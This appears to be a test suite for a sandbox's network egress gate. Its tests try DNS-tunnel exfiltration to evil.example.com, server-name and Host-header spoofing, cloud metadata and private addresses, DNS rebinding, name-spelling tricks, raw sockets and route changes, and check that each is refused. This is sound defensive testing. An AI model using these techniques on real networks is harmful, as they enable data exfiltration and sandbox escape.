# SPDX-License-Identifier: Apache-2.0
"""Attempts to get data out, or to get further than the profile says; each beside its control."""
from network_lab import HOST4, NAME, OTHER, Lab, connections, names, network
from sboxtest import PYTHON, test

QUESTION = """import socket, struct, sys
def ask(name, kind=1, server='198.18.0.1'):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(10)
    labels = b''.join(bytes([len(l)]) + l for l in name.split(b'.'))
    s.sendto(b'\\x12\\x34\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0' + labels + b'\\0' + struct.pack('>HH', kind, 1),
             (server, 53))
    return s.recv(2000)[3] & 15
"""


@test()
def names_carry_nothing_out(t):
    """10,000 questions that no rule could match: none leaves, all are counted."""
    lab = Lab(t)
    script = QUESTION + """
codes = {ask(b'%d.' % i + b'secret' * 8 + b'.evil.example.com') for i in range(10000)}
print(codes, ask(b'api.example.org', 16), ask(b'x.api.example.org'), ask(b'evil\\0.example.org'))
"""
    run = lab.run(PYTHON, "-c", script, timeout=120)
    t.has(run.text, "{3}", "NXDOMAIN")
    asked = [e["name"] for e in lab.events(server="dns")]
    t.check(not any("evil" in name or "secret" in name for name in asked), asked)
    totals = network(run)["totals"]
    t.check(totals["names"] >= 10000 and totals["names_refused"] >= 10000, totals)
    t.check(totals["names_dropped"] > 0, "beyond the table they are counted")
    t.check(len(run.end["denials"]) < 300, "and the record stays small")


@test()
def wildcards_are_bounded(t):
    lab = Lab(t)
    script = QUESTION + """
codes = [ask(b'%d.sub.example.net' % i) for i in range(1500)]
print(codes.count(0), codes.count(3), ask(b'sub.example.net'))
print(ask(b'.'.join([b'x' * 60] * 3) + b'.sub.example.net'))
"""
    run = lab.run(PYTHON, "-c", script, timeout=120)
    answered, refused, bare = map(int, run.text.split()[:3])
    t.check(0 < answered <= 1024 and answered + refused == 1500, run.text)
    t.equal(bare, 3, "*.NAME is not NAME")
    totals = network(run)["totals"]
    t.check(0 < totals["wildcard_names"] <= 1024 and totals["wildcard_bytes"] > 0, totals)


@test()
def server_name_has_to_match(t):
    lab = Lab(t)
    t.equal(lab.curl("--resolve", f"{OTHER}:443:{HOST4}", f"https://{OTHER}/", run=t.plain).code, 0)
    before = len(lab.events(server="http"))
    # another name to the allowed one's address; split hellos; none at all
    script = """import socket, ssl, sys
name, said, split = sys.argv[1], sys.argv[2] or None, sys.argv[3] == 'split'
c = ssl._create_unverified_context(); i, o = ssl.MemoryBIO(), ssl.MemoryBIO()
tls = c.wrap_bio(i, o, server_hostname=said)
try: tls.do_handshake()
except ssl.SSLWantReadError: pass
hello = o.read(); s = socket.create_connection((name, 443), 20); s.settimeout(20)
s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
try:
    for part in ([hello[n:n + 7] for n in range(0, len(hello), 7)] if split else [hello]):
        s.sendall(part)
    print('answered' if s.recv(100) else 'closed')
except OSError as e: print('refused', e.errno)
"""
    got = {}
    for said, split in ((NAME, ""), (NAME, "split"), (OTHER, ""), (OTHER, "split"), ("", "")):
        run = lab.run(PYTHON, "-c", script, NAME, said, split)
        got[said, split] = run.text.split()[0]
        if said == OTHER:
            t.check(run.denied("server-name", NAME)[0]["never"], run)
            t.equal(connections(run)[0]["ended"], "other_name")
    t.equal(got, {(NAME, ""): "answered", (NAME, "split"): "answered", (OTHER, ""): got[OTHER, ""],
                  (OTHER, "split"): got[OTHER, "split"], ("", ""): got["", ""]})
    t.check(all(got[key] in ("refused", "closed") for key in got if key[0] != NAME), got)
    t.equal(len(lab.events(server="http")), before)
    run = lab.run(PYTHON, "-c", script, NAME, "", "", sets=["network.sni=optional"])
    t.equal(run.text, "answered\n", "sni = optional")


@test()
def host_header_has_to_match(t):
    lab = Lab(t)
    before = len(lab.events(server="http"))
    run = lab.run("curl", "-sS", "-m", "20", "-H", f"Host: {OTHER}", f"http://{NAME}/")
    t.check(run.code != 0, run)
    t.equal(len(lab.events(server="http")), before, "the server saw nothing")
    t.check(run.denied("server-name", NAME), run)
    t.equal(lab.run("curl", "-sS", "-m", "20", f"http://{NAME}/").code, 0)


@test(cases=[("private.example.org", "10.9.9.9"), ("metadata.example.org", "169.254.169.254"),
             ("loop.example.org", "127.0.0.1")])
def allowed_name_of_a_closed_address(t, case):
    name, address = case
    lab = Lab(t, allow=f"{name}:80")
    if address != "127.0.0.1":
        t.equal(t.plain("curl", "-sS", "-m", "20", f"http://{name}/").code, 0, "control")
    before = len(lab.events(server="tcp"))
    run = lab.run("curl", "-sS", "-m", "20", f"http://{name}/")
    t.check(run.code != 0, run)
    t.equal(len(lab.events(server="tcp")), before, "nobody was dialled")
    t.check(run.denied("connect", name) or run.denied("resolve", name) or
            names(run)[name] != "answered", run)


@test()
def what_no_rule_permits_is_not_advised(t):
    """A line that the profile would refuse is no way out."""
    lab = Lab(t, allow="loop.example.org:80")
    script = """import socket
for place in ('loop.example.org', 80), ('198.18.255.255', 80), ('fe80::1%lo', 80), ('fe80::1%lo', 81):
    try: socket.create_connection(place, 9).recv(1)
    except OSError as e: print(e.errno)
"""
    run = lab.run(PYTHON, "-c", script)
    t.equal(run.text, "104\n104\n104\n111\n")
    for place in "loop.example.org:80", "198.18.255.255:80", "[fe80::1]:80", "[fe80::1]:81":
        denial, = run.denied("connect", place)
        t.equal(denial["permit"], None, place)
        t.check(denial["never"], denial)
    t.has(t.audit("show", run.start["run"]).text, "connection [fe80::1]:80", "as a rule writes it")


@test()
def requests_that_no_client_writes(t):
    """Some servers take them, and go by their Host."""
    lab = Lab(t)
    script = """import socket
for line in b'GET\\t/ HTTP/1.1', b' GET / HTTP/1.1', b'GET ftp://x/ HTTP/1.1':
    s = socket.create_connection(('%s', 80), 9)
    try:
        s.sendall(line + b'\\r\\nHost: %s\\r\\n\\r\\n')
        print(s.recv(1))
    except OSError as e: print(e.errno)
""" % (NAME, OTHER)
    run = lab.run(PYTHON, "-c", script)
    t.equal(run.text, "104\n" * 3)
    t.equal(lab.events(server="http"), [])
    t.check(run.denied("server-name", NAME), run)


@test()
def private_where_the_rule_says_so(t):
    lab = Lab(t, allow="private.example.org@private:80, 10.9.9.0/24:7")
    t.equal(lab.run("curl", "-sS", "-m", "20", "http://private.example.org/").code, 0)
    script = "import socket; s = socket.create_connection(('10.9.9.9', 7), 9); s.sendall(b'x'); print(s.recv(1))"
    t.equal(lab.run(PYTHON, "-c", script).text, "b'x'\n")


@test()
def rebinding(t):
    """A name that is public when it is looked up and private when it is dialled."""
    lab = Lab(t, allow="rebind.example.org:80")
    script = """import subprocess
for i in range(3):
    print(subprocess.run(['curl', '-s', '-m', '20', 'http://rebind.example.org/%d' % i],
                         capture_output=True).returncode)
    import time; time.sleep(6)
"""
    run = lab.run(PYTHON, "-c", script, timeout=60)
    seen = {e["at"] for e in lab.events(server="tcp")}
    t.check(seen <= {HOST4}, f"only the public address was dialled: {seen}")
    t.check(run.code == 0, run)


@test()
def spellings_of_names(t):
    lab = Lab(t)
    script = QUESTION + """
for name in (b'API.EXAMPLE.ORG', b'api.example.org\\0.evil.com', b'evil.com\\0api.example.org',
             b'api%2eexample.org', b'api.example.org.evil.com', b'xapi.example.org', b'api .example.org'):
    print(ask(name), end=' ')
import socket
print(len({i[4][0] for i in socket.getaddrinfo('api.example.org.', 443)}))
"""
    run = lab.run(PYTHON, "-c", script)
    t.equal(run.text.split(), ["0"] + ["3"] * 6 + ["1"], run)
    t.check(all(e["name"] in (NAME,) for e in lab.events(server="dns")), lab.events(server="dns"))


@test()
def deny_beats_allow(t):
    lab = Lab(t, allow="*.example.org:443, *.sub.example.net:443", network=f"deny = {OTHER}")
    t.equal(lab.curl(f"https://{NAME}/").code, 0)
    run = lab.curl(f"https://{OTHER}/")
    t.equal(run.code, 6, run)
    t.has(run.denied("resolve", OTHER)[0]["permit"], "deny without", run)


@test()
def pins(t):
    lab = Lab(t, allow="pinned.example.com:80", network=f"resolve = pinned.example.com={HOST4}")
    run = lab.run("curl", "-sS", "-m", "20", "http://pinned.example.com/")
    t.has(run.text, "host=pinned.example.com", run)
    t.equal(lab.events(server="dns"), [], "nobody was asked")


@test()
def filter_and_namespace_stay_shut(t):
    """No raw sockets, no change to the network, with the gate as without."""
    lab = Lab(t)
    script = """import socket, struct
def attempt(what, call):
    try: call(); print(what, 'DONE')
    except OSError as e: print(what, e.errno)
attempt('raw', lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 6))
attempt('packet', lambda: socket.socket(17, socket.SOCK_RAW, 0))
attempt('netfilter', lambda: socket.socket(16, socket.SOCK_RAW, 12))
s = socket.socket(); attempt('transparent', lambda: s.setsockopt(0, 19, 1))
n = socket.socket(16, socket.SOCK_RAW, 0)
n.send(struct.pack('=IHHII', 28 + 8, 24, 0x405, 1, 0) + struct.pack('=BBBBBBBBI', 2, 0, 0, 0, 255, 3, 254, 2, 0)
       + struct.pack('=HHI', 8, 4, 1))
code, = struct.unpack('=i', n.recv(4096)[16:20]); print('route', -code)
attempt('sysctl', lambda: open('/proc/sys/net/ipv4/ip_forward', 'w').write('1'))
"""
    run = lab.run(PYTHON, "-c", script)
    t.check("DONE" not in run.text and len(run.text.splitlines()) == 6, run)
    t.has(run.text, "route 1\n", "EPERM")
    t.has(run.text, "transparent 1\n", "EPERM")
